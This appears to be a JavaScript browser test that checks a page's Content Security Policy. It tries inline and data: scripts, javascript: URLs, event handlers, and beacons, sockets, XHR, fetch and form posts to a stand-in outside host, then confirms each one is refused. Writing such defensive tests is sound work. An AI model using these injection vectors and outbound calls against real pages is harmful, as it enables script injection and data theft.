// Tries everything that a script of a stranger would; calls back once all of it has been refused.
const done = arguments[arguments.length - 1];
const there = 'http://elsewhere.test/';
function add(tag, set) {
    const node = document.createElement(tag);
    Object.keys(set).forEach(function (name) { node.setAttribute(name, set[name]); });
    document.body.appendChild(node);
    return node;
}
function attempt(act) { try { act(); } catch { return; } }
window.hostile = 0;
const refused = {};
const wanted = ['script-src', 'img-src', 'style-src', 'connect-src', 'form-action', 'base-uri', 'frame-src', 'object-src', 'media-src'];
document.addEventListener('securitypolicyviolation', function (event) {
    refused[event.effectiveDirective.replace(/-(elem|attr)$/, '')] = true;
    if (wanted.every(function (directive) { return refused[directive]; })) finish();
});
add('script', {}).appendChild(document.createTextNode('window.hostile += 1;'));
const inline = document.createElement('script');
inline.textContent = 'window.hostile += 1;';
document.body.appendChild(inline);
add('script', { src: there + 'a.js' });
add('script', { src: 'data:text/javascript,window.hostile+=1' });
add('p', { onclick: 'window.hostile += 1' }).click();
add('a', { href: 'javascript:window.hostile+=1' }).click();
add('img', { src: there + 'a.png' });
add('link', { rel: 'stylesheet', href: there + 'a.css' });
add('iframe', { src: there + 'a.html' });
add('object', { data: there + 'a.swf' });
add('video', { src: there + 'a.mp4' });
add('base', { href: there });
const box = add('p', { style: 'background: url(' + there + 'b.png)' });
attempt(function () { box.style.backgroundImage = 'url(' + there + 'c.png)'; });
attempt(function () { navigator.sendBeacon(there + 'd', 'x'); });
attempt(function () { new WebSocket('ws://elsewhere.test/'); });
attempt(function () { new EventSource(there + 'e'); });
attempt(function () { const request = new XMLHttpRequest(); request.open('GET', there + 'f'); request.send(); });
const form = add('form', { action: there + 'g', method: 'post' });
attempt(function () { form.submit(); });
const fetched = Promise.all([there + 'h', 'index.html'].map(function (address) {
    return fetch(address).then(function () { return 'got ' + address; }, function () { return ''; });
}));
function finish() {
    fetched.then(function (got) { done({ ran: window.hostile, got: got.join(''), here: location.href }); });
}
